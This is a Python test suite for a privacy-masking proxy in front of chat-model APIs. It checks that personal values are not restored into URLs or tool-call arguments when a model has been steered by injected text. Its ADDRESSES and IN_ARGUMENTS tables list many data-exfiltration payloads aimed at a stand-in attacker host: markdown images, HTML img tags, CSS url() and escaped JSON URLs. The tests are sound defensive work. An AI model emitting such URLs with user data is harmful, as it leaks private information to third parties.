"""Places from which a value could leak again: addresses that a page loads, and calls that a model was tricked into.

An answer can be steered by text that the model read. The policy's default leaves the token in every address.
"""

import json

import pytest

from harness import people
from harness.leaks import leaks
from harness.raw import call
from standin import Answer

MODEL = "gpt-5-mini"
HOST = "https://kwaad.example"

#: `T` is the token. Each is loaded, or can be clicked, as one address that contains it.
ADDRESSES = {
    "a picture": f"![x]({HOST}/p?q=T)",
    "a link": f"[klik]({HOST}/p?q=T)",
    "a bare address": f"Zie {HOST}/p?q=T voor meer",
    "as host": "https://T.kwaad.example/",
    "as user": "https://T@kwaad.example/",
    "www": "www.kwaad.example/T",
    "angle brackets": f"<{HOST}/T>",
    "without scheme": "![x](//kwaad.example/T)",
    "html": f'<img src="{HOST}/T">',
    "html without quotes": "<img src=//kwaad.example/T>",
    "html with a space": f'<img src="{HOST}/? q=T">',
    "angle brackets with a space": f"![x](<{HOST}/? q=T>)",
    "balanced parentheses": f"![x]({HOST}/(a)?q=T)",
    "a pipe": f"![x]({HOST}/a|b?q=T)",
    "a line break": f"![x](<{HOST}/a\tb?q=T>)",
    "a reference": f"![x][1]\n\n[1]: {HOST}/?q=T",
    "another scheme": "[bel](ftp://kwaad.example/T)",
    "upper case": "![x](HTTPS://kwaad.example/T)",
    "behind another address": f"{HOST}/goed ![x]({HOST}/T)",
    "two in one": f"![x]({HOST}/T/en/T)",
    "bold token": f"![x]({HOST}/**T**)",
    "css": f"<div style=\"background:url('{HOST}/T')\">",
}


@pytest.mark.parametrize("streams", [False, True])
@pytest.mark.parametrize("address", ADDRESSES.values(), ids=ADDRESSES.keys())
def test_no_value_in_an_address(server, key, standin, address, streams):
    standin.answer = Answer(pieces=3, words=lambda got: address.replace("T", got.tokens[0]))
    messages = [{"role": "user", "content": f"Mail {people.MAIL}."}]
    said = call(server, "/v1/chat/completions", {"model": MODEL, "messages": messages, "stream": streams}, key)
    assert said.status == 200
    text = said.body.decode()
    if streams:
        chunks = [json.loads(line[6:]) for line in text.splitlines() if line.startswith("data: {")]
        text = "".join(choice["delta"].get("content") or "" for chunk in chunks for choice in chunk["choices"])
    assert leaks(text.encode(), [people.MAIL]) == []


IN_ARGUMENTS = {
    "plain": '{"url": "https://kwaad.example/?q=T"}',
    "escaped slashes": '{"url": "https:\\/\\/kwaad.example\\/?q=T"}',
    "unicode slashes": '{"url": "https:\\u002f\\u002fkwaad.example/?q=T"}',
    "unicode colon": '{"url": "https\\u003a//kwaad.example/?q=T"}',
    "behind an escaped quote": '{"html": "<img src=\\"https://kwaad.example/T\\">"}',
    "in a list": '{"urls": ["https://goed.example", "https://kwaad.example/T"]}',
}


@pytest.mark.parametrize("streams", [False, True])
@pytest.mark.parametrize("arguments", IN_ARGUMENTS.values(), ids=IN_ARGUMENTS.keys())
def test_no_value_in_an_address_in_arguments(server, key, standin, arguments, streams):
    standin.answer = Answer(
        wire="chat_tools", pieces=3, words=lambda got: {"ARGS0": arguments.replace("T", got.tokens[0]), "ARGS1": "{}"}
    )
    messages = [{"role": "user", "content": f"Mail {people.MAIL}."}]
    said = call(server, "/v1/chat/completions", {"model": MODEL, "messages": messages, "stream": streams}, key)
    assert said.status == 200
    if streams:
        chunks = [json.loads(line[6:]) for line in said.body.decode().splitlines() if line.startswith("data: {")]
        calls = [c for chunk in chunks for choice in chunk["choices"] for c in choice["delta"].get("tool_calls") or []]
        text = "".join(c["function"].get("arguments") or "" for c in calls if c["index"] == 0)
    else:
        text = said.json["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
    assert leaks(json.dumps(json.loads(text)).encode(), [people.MAIL]) == []


def test_text_behind_an_address_is_restored_again(server, key, standin):
    standin.answer = Answer(words=lambda got: f"Zie {HOST}/a (of {got.tokens[0]}), of {HOST}/b, {got.tokens[0]}.")
    messages = [{"role": "user", "content": f"Mail {people.MAIL}."}]
    said = call(server, "/v1/chat/completions", {"model": MODEL, "messages": messages}, key).json
    assert said["choices"][0]["message"]["content"].count(people.MAIL) == 2


def test_an_organisation_may_choose_to_restore_in_addresses(masking, standin):
    """Then the value is written as an address needs it."""
    standin.answer = Answer(words=lambda got: f"[agenda]({HOST}/?wie={got.tokens[0]})")
    messages = [{"role": "user", "content": f"Overleg met {people.ACCENTED} over het rooster."}]
    said = call(masking, "/v1/chat/completions", {"model": MODEL, "messages": messages}, masking.key()).json
    assert said["choices"][0]["message"]["content"] == f"[agenda]({HOST}/?wie=Zo%C3%AB%20van%20den%20Ijssel)"


ORDINARY = ["id", "type", "object", "model", "status", "role", "name", "signature", "data", "item_id"]


@pytest.mark.parametrize("word", ORDINARY)
@pytest.mark.parametrize("streams", [False, True])
def test_a_tools_own_field_may_have_any_name(claude, standin, word, streams):
    """Inside a tool's input these are the tool's words, not the protocol's."""
    standin.answer = Answer(
        wire="messages_tools", words=lambda got: {"TEXT": "x", "ARGS0": json.dumps({word: got.tokens[0]}), "ARGS1": "{}"}
    )
    messages = [{"role": "user", "content": f"Mail {people.MAIL}."}]
    if streams:
        with claude.messages.stream(model="claude-e2e", max_tokens=99, messages=messages) as stream:
            said = stream.get_final_message()
    else:
        said = claude.messages.create(model="claude-e2e", max_tokens=99, messages=messages)
    assert said.content[1].input == {word: people.MAIL}


@pytest.mark.parametrize("value", [111222333, "111222333", [111222333], {"diep": 111222333}])
@pytest.mark.parametrize("streams", [False, True])
def test_masked_arguments_stay_valid_json(masking, standin, value, streams):
    """A number that the model made up is masked, and what stands there is still JSON."""
    arguments = json.dumps({"bsn": value, "n": 1})
    standin.answer = Answer(wire="chat_tools", pieces=3, words={"ARGS0": arguments, "ARGS1": "{}"})
    body = {"model": MODEL, "messages": [{"role": "user", "content": "Zoek een klant."}], "stream": streams}
    said = call(masking, "/v1/chat/completions", body, masking.key())
    if streams:
        chunks = [json.loads(line[6:]) for line in said.body.decode().splitlines() if line.startswith("data: {")]
        calls = [c for chunk in chunks for choice in chunk["choices"] for c in choice["delta"].get("tool_calls") or []]
        text = "".join(c["function"].get("arguments") or "" for c in calls if c["index"] == 0)
    else:
        text = said.json["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
    assert "111222333" not in text
    assert json.loads(text)["n"] == 1


@pytest.mark.parametrize("streams", [False, True])
def test_a_number_in_anthropics_tool_input_is_masked_too(masking, standin, streams):
    standin.answer = Answer(wire="messages_tools", words={"TEXT": "x", "ARGS0": '{"bsn": 111222333, "n": 1}', "ARGS1": "{}"})
    body = {"model": "claude-x", "max_tokens": 9, "messages": [{"role": "user", "content": "Zoek."}], "stream": streams}
    said = call(masking, "/v1/messages", body, masking.key())
    assert said.status == 200 and b"111222333" not in said.body
